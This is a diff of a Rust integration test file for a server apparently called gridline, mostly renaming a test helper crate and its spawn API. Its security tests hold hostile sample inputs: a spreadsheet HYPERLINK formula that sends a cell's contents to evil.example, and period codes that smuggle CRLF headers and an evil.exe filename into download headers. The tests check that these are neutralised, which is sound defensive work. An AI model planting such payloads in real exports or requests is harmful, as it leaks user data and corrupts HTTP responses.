@@ -4,7 +4,7 @@
 use std::io::{Read, Write};
 use std::process::{Command, Stdio};
 
-use gridline_tests::{new_case, Db, Phone, TestApp};
+use gridline_testkit::{new_case, Db, Phone, TestApp};
 use reqwest::{Method, StatusCode};
 use serde_json::{json, Value};
 
@@ -56,7 +56,7 @@ fn row(
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn access_control_matrix() {
-    let app = TestApp::spawn(Db::Sqlite).await.unwrap();
+    let app = TestApp::on(Db::Sqlite).await.unwrap();
     let z1 = app.zone("Z01");
     let z2 = app.zone("Z02");
     let (_, users) = app.get("/v1/users", Some(&app.login("admin").await)).await;
@@ -341,7 +341,7 @@ async fn access_control_matrix() {
             }
             let resp = req.send().await.unwrap();
             let status = resp.status();
-            let (_, body) = gridline_tests::into_json(resp).await;
+            let (_, body) = gridline_testkit::into_json(resp).await;
             let got = match status.as_u16() {
                 200..=299 => Allow,
                 401 => Unauth,
@@ -390,7 +390,7 @@ async fn access_control_matrix() {
 /// zone's row, inspectors and squad members nothing.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_ranking_shows_each_role_what_it_may_see() {
-    let app = TestApp::spawn(Db::Sqlite).await.unwrap();
+    let app = TestApp::on(Db::Sqlite).await.unwrap();
     let admin = app.login("admin").await;
     let (_, periods) = app.get("/v1/periods", Some(&admin)).await;
     let period = periods[0]["id"].as_str().unwrap().to_owned();
@@ -464,12 +464,14 @@ async fn the_ranking_shows_each_role_what_it_may_see() {
 
 #[tokio::test]
 async fn requests_beyond_the_rate_limit_get_429_with_retry_after() {
-    let app = TestApp::spawn_with(Db::Sqlite, |c| {
-        c.limits.requests_per_minute = 60;
-        c.limits.request_burst = 5;
-    })
-    .await
-    .unwrap();
+    let app = TestApp::builder()
+        .config(|c| {
+            c.limits.requests_per_minute = 60;
+            c.limits.request_burst = 5;
+        })
+        .spawn()
+        .await
+        .unwrap();
     let token = app.login("inspector1").await;
     for _ in 0..5 {
         assert_eq!(app.get("/v1/me", Some(&token)).await.0, StatusCode::OK);
@@ -490,7 +492,7 @@ async fn requests_beyond_the_rate_limit_get_429_with_retry_after() {
             .unwrap()
             >= 1
     );
-    let (_, body) = gridline_tests::into_json(resp).await;
+    let (_, body) = gridline_testkit::into_json(resp).await;
     assert_eq!(body["code"], "rate_limited");
     // Another user has their own budget.
     let other = app.login("inspector2").await;
@@ -499,7 +501,7 @@ async fn requests_beyond_the_rate_limit_get_429_with_retry_after() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn slow_clients_cannot_hold_the_server() {
-    let app = TestApp::spawn(Db::Sqlite).await.unwrap();
+    let app = TestApp::on(Db::Sqlite).await.unwrap();
     // Hundreds of connections that send half a request and stall.
     let mut stalled = Vec::new();
     for _ in 0..300 {
@@ -557,7 +559,7 @@ fn no_secret_or_token_appears_in_logs() {
         let base = format!("http://127.0.0.1:{port}");
         let login: Value = http
             .post(format!("{base}/v1/auth/login"))
-            .json(&json!({"username": "admin", "password": gridline_tests::gridline_server::demo::DEMO_PASSWORD}))
+            .json(&json!({"username": "admin", "password": gridline_testkit::gridline_server::demo::DEMO_PASSWORD}))
             .send()
             .await
             .unwrap()
@@ -603,7 +605,7 @@ fn free_port() -> u16 {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn csv_exports_keep_formulas_inert() {
-    let app = TestApp::spawn(Db::Sqlite).await.unwrap();
+    let app = TestApp::on(Db::Sqlite).await.unwrap();
     let mut phone = Phone::enrol(&app, "inspector1").await;
     let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";
     let (case_id, mut payload) = new_case(app.zone("Z01"), 0, "event:0102");
@@ -641,7 +643,7 @@ async fn csv_exports_keep_formulas_inert() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn period_codes_cannot_break_download_headers() {
-    let app = TestApp::spawn(Db::Sqlite).await.unwrap();
+    let app = TestApp::on(Db::Sqlite).await.unwrap();
     let admin = app.login("admin").await;
     for code in ["P1\r\nX-Evil: 1", "P1\"; filename=evil.exe", "P 1", ""] {
         let (status, body) = app
@@ -665,9 +667,9 @@ async fn period_codes_cannot_break_download_headers() {
 
     // A code stored before codes were checked still downloads, under a harmless name.
     let mut tx = app.state.db.begin_write().await.unwrap();
-    let old = gridline_tests::gridline_server::store::reference::insert_period(
+    let old = gridline_testkit::gridline_server::store::reference::insert_period(
         tx.conn(),
-        &gridline_tests::gridline_server::model::PeriodSpan {
+        &gridline_testkit::gridline_server::model::PeriodSpan {
             code: "Q\r\nX-Evil: 1\"; a=b".into(),
             starts_at: time::macros::datetime!(2102-01-01 0:00 UTC),
             ends_at: time::macros::datetime!(2102-02-01 0:00 UTC),
@@ -706,12 +708,14 @@ async fn data_files_are_private_to_the_server_user() {
     let parent = tempfile::tempdir().unwrap();
     let data = parent.path().join("var").join("gridline");
     let data_dir = data.clone();
-    let app = TestApp::spawn_with(Db::Sqlite, move |c| {
-        c.data_dir = data_dir;
-        c.blob.backend = gridline_tests::gridline_server::config::BlobBackend::Local;
-    })
-    .await
-    .unwrap();
+    let app = TestApp::builder()
+        .config(move |c| {
+            c.data_dir = data_dir;
+            c.blob.backend = gridline_testkit::gridline_server::config::BlobBackend::Local;
+        })
+        .spawn()
+        .await
+        .unwrap();
     // A write, so the WAL is in use.
     let admin = app.login("admin").await;
     let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
